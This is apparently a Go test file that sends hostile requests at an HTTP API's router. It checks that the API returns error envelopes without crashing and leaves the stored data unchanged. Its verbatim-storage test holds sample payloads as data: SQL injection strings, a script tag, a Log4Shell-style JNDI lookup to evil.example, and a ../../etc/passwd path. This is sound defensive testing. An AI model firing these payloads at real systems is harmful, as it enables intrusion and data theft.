package httpapi_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"industrydata"
	"industrydata/auth"
	"industrydata/httpapi"
	"industrydata/service"
	"industrydata/store/sqlite"
)

// This file throws malformed and malicious requests at the real router. Every
// request must be answered without a 500 or a panic, every 4xx with the Graph
// error envelope, and none may change what the tenants hold (SPEC §3: a failed
// request changes nothing; STYLE: never panic on input). fuzz_test.go drives
// the same checks with fuzzed requests; hostile_cases_test.go lists the cases.

const urrpCast = "/microsoft.graph.industryData.userReportRefreshProcess"

// hostileCase is one request. target is the path and query, with the
// placeholders {op}, {op2}, {proc} (tenant A's entities), {procETag} (the
// process's eTag), {opB} (tenant B's operation), {OP} (tenant A's operation
// id in upper case) and {tokA},
// {tokB}, {tokReader} (tokens), replaced in the target, body and headers.
type hostileCase struct {
	name    string
	method  string
	target  string
	body    string
	headers []string // name/value pairs, added in order; a name given here replaces the default; value "-" removes it
	want    []int    // statuses allowed; nil means any 4xx (any status below 500 with mayWrite)
	names   string   // a phrase the error's message or target must contain
	notIn   string   // a string the response (headers and body) must not contain
	// mayWrite lets a 2xx change the store (the fuzz targets); a failed
	// request still must not.
	mayWrite bool
	// innerWant, for a batch that answers 200, lists the statuses its
	// requests may answer; nil allows any below 500.
	innerWant []int
	// bigEcho marks a known issue left alone: httpapi/query.go puts a
	// rejected query option's whole name in error.target, so the answer
	// grows with the name. Only the size bound is waived.
	bigEcho bool
}

// errorLog records what the service logs at level Error: a panic or an
// unexpected failure (a 500's cause) shows up there.
type errorLog struct {
	mu   sync.Mutex
	msgs []string
}

func (l *errorLog) Enabled(_ context.Context, lvl slog.Level) bool { return lvl >= slog.LevelError }
func (l *errorLog) WithAttrs([]slog.Attr) slog.Handler             { return l }
func (l *errorLog) WithGroup(string) slog.Handler                  { return l }
func (l *errorLog) Handle(_ context.Context, r slog.Record) error {
	var b strings.Builder
	b.WriteString(r.Message)
	r.Attrs(func(a slog.Attr) bool {
		fmt.Fprintf(&b, " %s=%v", a.Key, a.Value)
		return true
	})
	l.mu.Lock()
	l.msgs = append(l.msgs, b.String())
	l.mu.Unlock()
	return nil
}

func (l *errorLog) take() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	out := l.msgs
	l.msgs = nil
	return out
}

// hostileEnv is one service with tenant A (its system process and two
// operations) and tenant B (its process and one operation), shared by every
// case: each case compares snapshots of the store before and after.
type hostileEnv struct {
	handler               http.Handler
	store                 industrydata.Store
	logs                  *errorLog
	tokA, tokB, tokReader string
	ids                   map[string]string
	// last is the snapshot after the previous case: nothing else writes,
	// so it is the next case's "before" (one snapshot per case, not two).
	last string
}

// newHostileEnv builds the service as the harness does, over a store in
// tb's temp dir; it takes a testing.TB so that a fuzz target can build one
// for all its inputs.
func newHostileEnv(tb testing.TB) *hostileEnv {
	tb.Helper()
	st, err := sqlite.Open(context.Background(), sqlite.Config{Path: tb.TempDir() + "/hostile.db"})
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { st.Close() })
	logs := &errorLog{}
	// The harness's t serves only its request helpers, which this file
	// does not use.
	h := newHarnessWithStore(nil, st, func(c *httpapi.Config, _ *service.Options) { c.Logger = slog.New(logs) })
	e := &hostileEnv{handler: h.handler, store: st, logs: logs,
		tokA:      mint(tb, tenantA),
		tokB:      mint(tb, tenantB),
		tokReader: mint(tb, tenantA, industrydata.PermReadBasic),
	}
	e.ids = map[string]string{"{tokA}": e.tokA, "{tokB}": e.tokB, "{tokReader}": e.tokReader}
	create := func(tok, body string) string {
		rec := e.serve(hostileCase{method: "POST", target: "/beta/industryData/operations", body: body,
			headers: []string{"Authorization", "Bearer " + tok}})
		var created struct{ ID string }
		if rec.Code != 201 || json.Unmarshal(rec.Body.Bytes(), &created) != nil {
			tb.Fatalf("create an operation: %d %s", rec.Code, rec.Body)
		}
		return created.ID
	}
	op := create(e.tokA, `{"status":"running","statusDetail":"keep","resourceLocation":"https://example.com/x"}`)
	op2 := create(e.tokA, `{"createdDateTime":"2024-01-01T00:00:00Z"}`)
	opB := create(e.tokB, `{"statusDetail":"tenant B"}`)
	procs, err := st.ListProcesses(context.Background(), tenantA, industrydata.ListQuery{})
	if err != nil || len(procs) != 1 {
		tb.Fatalf("tenant A's processes: %v %v", procs, err)
	}
	for k, v := range map[string]string{"{op}": op, "{op2}": op2, "{proc}": procs[0].ID, "{procETag}": procs[0].ETag,
		"{opB}": opB, "{OP}": strings.ToUpper(op)} {
		e.ids[k] = v
	}
	// Tenant A's import surface, which the body routes of those sets write.
	post := func(set, body string) string {
		rec := e.serve(hostileCase{method: "POST", target: "/beta/industryData/" + set, body: e.expand(body),
			headers: []string{"Authorization", "Bearer " + e.tokA}})
		var created struct{ ID string }
		if rec.Code != 201 || json.Unmarshal(rec.Body.Bytes(), &created) != nil {
			tb.Fatalf("create in %s: %d %s", set, rec.Code, rec.Body)
		}
		return created.ID
	}
	e.ids["{ss}"] = post("sourceSystems", `{"displayName":"keep"}`)
	e.ids["{year}"] = post("years", `{"displayName":"keep","startDate":"2024-09-01","endDate":"2025-06-30","year":{"code":"2025"}}`)
	e.ids["{conn}"] = post("dataConnectors", `{"@odata.type":"#microsoft.graph.industryData.azureDataLakeConnector","displayName":"keep","sourceSystem@odata.bind":"sourceSystems/{ss}"}`)
	e.ids["{flow}"] = post("inboundFlows", `{"@odata.type":"#microsoft.graph.industryData.inboundFileFlow","displayName":"keep","dataDomain":"educationRostering",
		"effectiveDateTime":"2024-09-01T00:00:00Z","dataConnector@odata.bind":"dataConnectors/{conn}","year@odata.bind":"years/{year}"}`)
	if l := logs.take(); len(l) > 0 {
		tb.Fatalf("setup logged errors: %q", l)
	}
	return e
}

// mint is a token for tenant; with no permissions it grants them all.
func mint(tb testing.TB, tenant string, perms ...industrydata.Permission) string {
	tb.Helper()
	req := auth.TokenRequest{Tenant: tenant, Expires: time.Hour}
	for _, p := range perms {
		req.Roles = append(req.Roles, string(p))
	}
	tok, err := auth.Mint(testKey, req)
	if err != nil {
		tb.Fatal(err)
	}
	return tok
}

// expand replaces the placeholders of s.
func (e *hostileEnv) expand(s string) string {
	if !strings.Contains(s, "{") {
		return s
	}
	for k, v := range e.ids {
		s = strings.ReplaceAll(s, k, v)
	}
	return s
}

// snapshot is every operation and process of both tenants, ETags and
// sequence numbers included, as JSON. (Starting a run writes an operation
// too, so runs need no listing of their own.)
func (e *hostileEnv) snapshot(tb testing.TB) string {
	tb.Helper()
	ctx := context.Background()
	var b bytes.Buffer
	for _, tenant := range []industrydata.TenantID{tenantA, tenantB} {
		ops, err := e.store.ListOperations(ctx, tenant, industrydata.ListQuery{})
		if err != nil {
			tb.Fatal(err)
		}
		procs, err := e.store.ListProcesses(ctx, tenant, industrydata.ListQuery{})
		if err != nil {
			tb.Fatal(err)
		}
		var resources []industrydata.Resource
		for _, set := range service.ResourceSetNames {
			err := e.store.ScanResources(ctx, tenant, set, func(r *industrydata.Resource) error {
				resources = append(resources, *r)
				return nil
			})
			if err != nil {
				tb.Fatal(err)
			}
		}
		for _, v := range []any{ops, procs, resources} {
			data, err := json.Marshal(v)
			if err != nil {
				tb.Fatal(err)
			}
			b.Write(data)
			b.WriteByte('\n')
		}
	}
	return b.String()
}

// newRequest builds the request of tc. Targets a client could not put on
// the wire (control bytes) are built field by field: the handler must still
// cope with whatever an http.Request can hold.
func (e *hostileEnv) newRequest(tc hostileCase) *http.Request {
	target := e.expand(tc.target)
	u, err := url.ParseRequestURI(target)
	if err != nil {
		path, query, _ := strings.Cut(target, "?")
		u = &url.URL{Path: path, RawQuery: query}
	}
	body := e.expand(tc.body)
	req := &http.Request{
		Method: tc.method, URL: u, RequestURI: target,
		Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1,
		Header: http.Header{}, Host: "industrydata.test", RemoteAddr: "192.0.2.1:1234",
		Body: http.NoBody, ContentLength: int64(len(body)),
	}
	if body != "" {
		req.Body = io.NopCloser(strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
	}
	req.Header.Set("Authorization", "Bearer "+e.tokA)
	replaced := map[string]bool{}
	for i := 0; i+1 < len(tc.headers); i += 2 {
		name, value := http.CanonicalHeaderKey(tc.headers[i]), e.expand(tc.headers[i+1])
		if !replaced[name] {
			req.Header.Del(name)
			replaced[name] = true
		}
		if name == "Host" {
			req.Host = value
			continue
		}
		if value != "-" {
			req.Header[name] = append(req.Header[name], value)
		}
	}
	return req.WithContext(context.Background())
}

// serve sends tc through the router and records the answer.
func (e *hostileEnv) serve(tc hostileCase) (rec *httptest.ResponseRecorder) {
	rec = httptest.NewRecorder()
	e.handler.ServeHTTP(rec, e.newRequest(tc))
	return rec
}

// codeStatus is the status each Graph error code must come with.
var codeStatus = map[string]int{
	"badRequest": 400, "invalidRequest": 400, "unauthenticated": 401, "accessDenied": 403,
	"itemNotFound": 404, "methodNotAllowed": 405, "notAcceptable": 406, "conflict": 409,
	"preconditionFailed": 412, "requestEntityTooLarge": 413, "tooManyRequests": 429, "failedDependency": 424,
}

var innerErrorDate = regexp.MustCompile(`^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}$`)

// maxErrorBody bounds an error response: a message quotes client text only
// clipped, whatever the client sent.
const maxErrorBody = 4 << 10

// run sends tc and checks every property of the file comment. It returns
// the recorded answer.
func (e *hostileEnv) run(tb testing.TB, tc hostileCase) *httptest.ResponseRecorder {
	tb.Helper()
	before := e.last
	e.last = "" // until this case ends well
	if before == "" {
		before = e.snapshot(tb)
	}
	var rec *httptest.ResponseRecorder
	func() {
		defer func() {
			if v := recover(); v != nil {
				tb.Fatalf("the handler panicked: %v", v)
			}
		}()
		rec = e.serve(tc)
	}()
	res := rec.Result()
	raw := rec.Body.Bytes()
	show := string(raw)
	if len(show) > 600 {
		show = show[:600] + "…"
	}
	if logs := e.logs.take(); len(logs) > 0 {
		tb.Errorf("the service logged errors: %q", logs)
	}
	if res.StatusCode >= 500 {
		tb.Fatalf("status %d: %s", res.StatusCode, show)
	}
	switch {
	case tc.want != nil && !slices.Contains(tc.want, res.StatusCode):
		tb.Errorf("status %d, want one of %v: %s", res.StatusCode, tc.want, show)
	case tc.want == nil && !tc.mayWrite && res.StatusCode < 400:
		tb.Errorf("status %d, want a 4xx: %s", res.StatusCode, show)
	}
	for name, values := range res.Header {
		for _, v := range values {
			if strings.ContainsAny(v, "\r\n\x00") {
				tb.Errorf("header %s carries a control character: %q", name, v)
			}
		}
	}
	if res.Header.Get("request-id") == "" || res.Header.Get("OData-Version") != "4.0" {
		tb.Errorf("request-id %q, OData-Version %q", res.Header.Get("request-id"), res.Header.Get("OData-Version"))
	}
	if tc.notIn != "" {
		var hdr bytes.Buffer
		_ = res.Header.Write(&hdr)
		if bytes.Contains(raw, []byte(tc.notIn)) || strings.Contains(hdr.String(), tc.notIn) {
			tb.Errorf("the response repeats %q:\n%s\n%s", tc.notIn, hdr.String(), show)
		}
	}
	if res.StatusCode >= 400 {
		checkHostileEnvelope(tb, tc, res, raw)
	} else if tc.target == batchPath && res.StatusCode == 200 {
		checkHostileBatch(tb, tc, raw)
	} else if len(raw) > 0 && !json.Valid(raw) {
		tb.Errorf("a %d body is not JSON: %s", res.StatusCode, show)
	}
	after := e.snapshot(tb)
	e.last = after
	if after != before && !(tc.mayWrite && res.StatusCode < 300) {
		tb.Errorf("the request changed the store (status %d: %s)\nbefore %s\nafter  %s", res.StatusCode, show, before, after)
	}
	return rec
}

// checkHostileEnvelope checks a 4xx answer: exactly {"error":{code, message,
// target?, details?, innerError}}, the code matching the status, bounded.
func checkHostileEnvelope(tb testing.TB, tc hostileCase, res *http.Response, raw []byte) {
	tb.Helper()
	ct := res.Header.Get("Content-Type")
	if media, _, _ := strings.Cut(ct, ";"); media != "application/json" {
		tb.Errorf("Content-Type %q", ct)
	}
	if len(raw) > maxErrorBody && !tc.bigEcho {
		tb.Errorf("error body of %d bytes (more than %d): %.300s…", len(raw), maxErrorBody, raw)
	}
	var env map[string]json.RawMessage
	if err := json.Unmarshal(raw, &env); err != nil || len(env) != 1 || env["error"] == nil {
		tb.Fatalf("not a Graph error envelope (%v): %.600s", err, raw)
	}
	var body struct {
		Code       *string         `json:"code"`
		Message    *string         `json:"message"`
		Target     string          `json:"target"`
		InnerError json.RawMessage `json:"innerError"`
	}
	if err := json.Unmarshal(env["error"], &body); err != nil {
		tb.Fatalf("error object: %v: %s", err, raw)
	}
	if body.Code == nil || *body.Code == "" || body.Message == nil || *body.Message == "" {
		tb.Fatalf("error without code or message: %s", raw)
	}
	if want, ok := codeStatus[*body.Code]; !ok || want != res.StatusCode {
		tb.Errorf("code %q with status %d", *body.Code, res.StatusCode)
	}
	var inner map[string]any
	if err := json.Unmarshal(body.InnerError, &inner); err != nil {
		tb.Fatalf("innerError: %v: %s", err, raw)
	}
	if d, _ := inner["date"].(string); !innerErrorDate.MatchString(d) {
		tb.Errorf("innerError.date %q", d)
	}
	if id, _ := inner["request-id"].(string); id == "" || id != res.Header.Get("request-id") {
		tb.Errorf("innerError.request-id %q, header %q", id, res.Header.Get("request-id"))
	}
	if res.StatusCode == 401 && !strings.HasPrefix(res.Header.Get("WWW-Authenticate"), "Bearer") {
		tb.Errorf("401 without WWW-Authenticate: Bearer")
	}
	if tc.names != "" && !strings.Contains(*body.Message, tc.names) && body.Target != tc.names {
		tb.Errorf("the error does not name %q: %s", tc.names, raw)
	}
}

func TestHostileRequests(t *testing.T) {
	env := newHostileEnv(t)
	cases := hostileCases()
	t.Logf("%d hostile requests", len(cases))
	if len(cases) < 200 {
		t.Fatalf("only %d hostile requests; the table must hold at least 200", len(cases))
	}
	start := time.Now()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) { env.run(t, tc) })
	}
	t.Logf("ran in %v", time.Since(start).Round(time.Millisecond))
}

// TestHostileValuesStoredVerbatim: text that looks like SQL, markup, a path
// or a template is data. A PATCH stores it exactly, GET and $filter give it
// back exactly (eq and contains match it and nothing else, whatever LIKE or
// quoting would make of it), and the other tenant sees no change. JSON
// escapes for lone UTF-16 surrogates decode to U+FFFD, deterministically.
func TestHostileValuesStoredVerbatim(t *testing.T) {
	env := newHostileEnv(t)
	b := func(headers ...string) []string {
		return append([]string{"Authorization", "Bearer {tokB}"}, headers...)
	}
	// A second operation of tenant B, which no filter below may match.
	env.run(t, hostileCase{method: "POST", target: "/beta/industryData/operations", body: `{"statusDetail":"plain"}`,
		headers: b(), want: []int{201}, mayWrite: true})
	procs, err := env.store.ListProcesses(context.Background(), tenantB, industrydata.ListQuery{})
	if err != nil || len(procs) != 1 {
		t.Fatalf("tenant B's processes: %v %v", procs, err)
	}
	env.ids["{procB}"] = procs[0].ID
	tenantAOnly := func() string {
		lines := strings.SplitN(env.snapshot(t), "\n", 3)
		return lines[0] + lines[1] // tenant A's operations and processes
	}

	values := []struct{ name, json, want string }{
		{"SQL tautology", `"' OR 1=1 --"`, `' OR 1=1 --`},
		{"SQL statement", `"\"; DROP TABLE operations;--"`, `"; DROP TABLE operations;--`},
		{"SQL comment", `"x'/**/OR/**/'1'='1"`, `x'/**/OR/**/'1'='1`},
		{"LIKE wildcards", `"100%_done\\"`, `100%_done\`},
		{"lone high surrogate", `"\ud800"`, "\ufffd"},
		{"lone low surrogate", `"a\udc00b"`, "a\ufffdb"},
		{"surrogates reversed", `"\ude00\ud83d"`, "\ufffd\ufffd"},
		{"surrogate pair", `"\ud83d\ude00"`, "\U0001F600"},
		{"line separators", `"\u2028\u2029"`, "\u2028\u2029"},
		{"right-to-left override", `"\u202egnp.exe"`, "\u202egnp.exe"},
		{"byte order mark inside", `"\ufeffx"`, "\ufeffx"},
		{"noncharacter", `"\uffff\ufffe"`, "\uffff\ufffe"},
		{"control characters", `"\u0001\u001f\u007f"`, "\x01\x1f\x7f"},
		{"markup", `"<script>alert(1)</script>"`, `<script>alert(1)</script>`},
		{"template", `"${jndi:ldap://evil.example/a}"`, `${jndi:ldap://evil.example/a}`},
		{"path", `"../../etc/passwd"`, `../../etc/passwd`},
		{"percent-encoding", `"%27%20OR%201=1"`, `%27%20OR%201=1`},
		// The longest both properties take (displayName's cap); longer is a 400 (TestFreeTextCaps).
		{"256 characters", `"` + strings.Repeat("x'", 128) + `"`, strings.Repeat("x'", 128)},
	}
	for _, v := range values {
		t.Run(v.name, func(t *testing.T) {
			before := tenantAOnly()
			for _, target := range []struct{ path, prop, body string }{
				{"/beta/industryData/operations/{opB}", "statusDetail", `{"statusDetail":` + v.json + `}`},
				{"/beta/industryData/processes/{procB}", "displayName", `{"displayName":` + v.json + `,"readinessStatus":"ready"}`},
			} {
				rec := env.run(t, hostileCase{method: "PATCH", target: target.path, body: target.body,
					headers: b("If-Match", "*"), want: []int{200}, mayWrite: true})
				if got := jsonString(t, rec.Body.Bytes(), target.prop); got != v.want {
					t.Errorf("PATCH %s: %s = %q, want %q", target.path, target.prop, clipName(got), clipName(v.want))
				}
				rec = env.run(t, hostileCase{method: "GET", target: target.path, headers: b(), want: []int{200}})
				if got := jsonString(t, rec.Body.Bytes(), target.prop); got != v.want {
					t.Errorf("GET %s: %s = %q, want %q", target.path, target.prop, clipName(got), clipName(v.want))
				}
				if len(v.want) > 500 {
					continue // past what a $filter holds
				}
				set, _, _ := strings.Cut(target.path, "/{")
				literal := "'" + strings.ReplaceAll(v.want, "'", "''") + "'"
				for _, filter := range []string{target.prop + " eq " + literal, "contains(" + target.prop + "," + literal + ")"} {
					rec := env.run(t, hostileCase{method: "GET", target: set + "?$filter=" + url.QueryEscape(filter),
						headers: b(), want: []int{200}})
					var page struct{ Value []struct{ ID string } }
					if err := json.Unmarshal(rec.Body.Bytes(), &page); err != nil {
						t.Fatal(err)
					}
					if want := env.expand(target.path[strings.LastIndex(target.path, "/")+1:]); len(page.Value) != 1 || page.Value[0].ID != want {
						t.Errorf("$filter=%s matched %v, want only %s", filter, page.Value, want)
					}
				}
			}
			if after := tenantAOnly(); after != before {
				t.Errorf("tenant A changed:\nbefore %s\nafter  %s", before, after)
			}
		})
	}
}

// jsonString returns the string member called name of a JSON object.
func jsonString(t *testing.T, data []byte, name string) string {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatalf("%v: %.300s", err, data)
	}
	s, _ := m[name].(string)
	return s
}

// TestHostileBaselines checks the requests the table spoils: each route
// with its valid body, id, headers and no query answers 2xx (409 for the
// tenant's second system process), so that a refusal in the table is the
// payload's doing.
func TestHostileBaselines(t *testing.T) {
	var cases []hostileCase
	for _, r := range bodyRoutes {
		want := map[string]int{"PATCH": 200, "POST": 201}[r.method]
		if r.shape.singleton && r.method == "POST" {
			want = 409
		}
		cases = append(cases, hostileCase{name: "body " + r.name, method: r.method, target: r.target,
			body: r.valid(), headers: r.headers, want: []int{want}})
	}
	for _, r := range idRoutes {
		cases = append(cases, hostileCase{name: "id " + r.name, method: r.method, target: fmt.Sprintf(r.pattern, r.own),
			body: r.body, headers: r.headers})
	}
	for _, r := range queryRoutes {
		cases = append(cases, hostileCase{name: "query " + r.name, method: r.method, target: r.target,
			body: r.body, headers: r.headers})
	}
	for _, r := range headerRoutes {
		cases = append(cases, hostileCase{name: "header " + r.name, method: r.method, target: r.target,
			body: r.body, headers: r.headers})
	}
	// The deepest body accepted: an ignored annotation nesting to the limit.
	cases = append(cases, hostileCase{name: "body nested to the limit", method: "PATCH", target: "/beta/industryData/operations/{op}",
		body: `{"@odata.context":` + nest("[", "1", "]", 31) + `,"statusDetail":"changed"}`})
	shared := newHostileEnv(t)
	for _, tc := range cases {
		if tc.want == nil {
			tc.want = []int{map[string]int{"GET": 200, "PATCH": 200, "POST": 201, "DELETE": 204}[tc.method]}
		}
		tc.mayWrite = true
		t.Run(tc.name, func(t *testing.T) {
			env := shared
			if tc.method == "DELETE" {
				env = newHostileEnv(t) // the others need what it deletes
			}
			p, err := env.store.GetProcess(context.Background(), tenantA, env.ids["{proc}"])
			if err != nil {
				t.Fatal(err)
			}
			env.ids["{procETag}"] = p.ETag // a PATCH before this one changed it
			env.run(t, tc)
		})
	}
}

// ---- the table ----

// bodyRoute is a route that takes a JSON body, for the body payloads.
